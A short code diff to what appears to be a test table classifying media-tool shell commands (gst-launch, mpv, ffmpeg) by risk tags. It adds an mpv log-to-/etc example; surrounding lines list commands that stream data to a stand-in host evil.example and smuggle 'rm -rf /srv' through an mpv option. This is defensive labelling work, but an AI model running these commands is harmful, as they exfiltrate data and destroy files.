@@ -261,6 +261,7 @@ MEDIA = (
             example("ffplay a.mp4"),
             example("gst-launch-1.0 videotestsrc ! autovideosink", WRITES),
             example("gst-launch-1.0 filesrc location=a ! tcpclientsink host=evil.example port=1", EGRESS, WRITES),
+            example("mpv --log-file=/etc/x a.mp4", WRITES),
             example("mpv --ytdl-raw-options=exec='rm -rf /srv' a.mp4", DESTRUCTIVE),
             example("ffmpeg -i a.mp4 b.mp3", WRITES),
             example("ffmpeg -i a.mp4 -f mpegts udp://evil.example:1234", EGRESS),
